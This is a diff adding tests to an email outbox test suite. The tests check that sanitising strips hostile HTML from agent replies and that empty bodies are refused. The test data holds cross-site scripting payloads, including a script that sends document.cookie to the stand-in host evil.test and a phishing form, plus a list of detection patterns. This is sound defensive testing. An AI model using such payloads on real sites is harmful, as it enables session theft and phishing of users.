@@ -200,6 +200,82 @@ describe.each(engines)('outbox on %s', (engine) => {
     await cancelSend(deps(), agent, forced.id);
   });
 
+  it('hostile HTML in the agent body never leaves: scripts, event handlers, javascript: links, forms, frames, CSS tricks', async () => {
+    const subject = `Sanitise ${token()}`;
+    const thread = await customerWrites(subject);
+    const hostile = [
+      '<p>Our offer follows.<script>fetch("https://evil.test/steal?c="+document.cookie)</script></p>',
+      '<p onclick="alert(1)">Click <a href="javascript:alert(2)">here</a> or <a href="https://acme.test/catalogue">our catalogue</a>.</p>',
+      '<img src="x" onerror="alert(3)"><svg><script>alert(4)</script><circle onload="alert(5)"></circle></svg>',
+      '<iframe src="https://evil.test/frame"></iframe><form action="https://evil.test/phish"><input name="pw"></form>',
+      '<div style="background:url(javascript:alert(6));width:expression(alert(7))">Best regards</div>',
+      '<meta http-equiv="refresh" content="0;url=https://evil.test/"><object data="https://evil.test/x.swf"></object>',
+    ].join('');
+    const item = await queueSend(deps(), agent, {
+      mailboxId: sales.id,
+      mode: 'reply',
+      conversationId: thread.conversationId,
+      to: [customer],
+      cc: [],
+      bcc: [],
+      subject: `Re: ${subject}`,
+      html: hostile,
+      uploadIds: [],
+      force: false,
+    });
+    await endUndoWindow(item.id);
+    await runSendJob(workerDeps(), item.id);
+    expect((await outboxRow(item.id)).state).toBe('sent');
+    const [received] = await waitForMail(customer, 'INBOX', subject);
+    const html = String(received?.parsed.html);
+    // What the agent meant is there…
+    expect(html).toContain('Our offer follows.');
+    expect(html).toContain('href="https://acme.test/catalogue"');
+    expect(html).toContain('Best regards');
+    expect(html).toContain('Acme Tools Co., Ltd.');
+    // …and nothing that runs, submits, frames or redirects.
+    for (const bad of [
+      /<script/i,
+      /\son[a-z]+\s*=/i,
+      /javascript:/i,
+      /<iframe/i,
+      /<form/i,
+      /<input/i,
+      /expression\(/i,
+      /<meta/i,
+      /<object/i,
+      /evil\.test/i,
+    ]) {
+      expect(html).not.toMatch(bad);
+    }
+    expect(received?.raw.toString('utf8')).not.toMatch(/<script|onerror=|onclick=/i);
+  });
+
+  it('refuses a mail without a body (400 outbox.empty_body), but a forward may go without words of its own', async () => {
+    const subject = `Empty ${token()}`;
+    const thread = await customerWrites(subject);
+    const request = {
+      mailboxId: sales.id,
+      mode: 'reply' as const,
+      conversationId: thread.conversationId,
+      to: [customer],
+      cc: [],
+      bcc: [],
+      subject: `Re: ${subject}`,
+      uploadIds: [],
+      force: false,
+    };
+    for (const html of ['', '<p></p>', '<p> &nbsp; </p><p><br></p>', '<script>alert(1)</script>']) {
+      await expect(queueSend(deps(), agent, { ...request, html })).rejects.toMatchObject({ code: 'outbox.empty_body', statusCode: 400 });
+    }
+    expect(
+      await ws.db.selectFrom('outbox_messages').select('id').where('conversation_id', '=', thread.conversationId).execute(),
+    ).toHaveLength(0);
+    const forward = await queueSend(deps(), agent, { ...request, mode: 'forward', subject: `Fwd: ${subject}`, html: '<p></p>' });
+    expect(forward.state).toBe('scheduled');
+    await cancelSend(deps(), agent, forward.id);
+  });
+
   it('undo within the window: the worker never sends, the message is gone and comes back as a draft', async () => {
     const subject = `Undo ${token()}`;
     const thread = await customerWrites(subject);
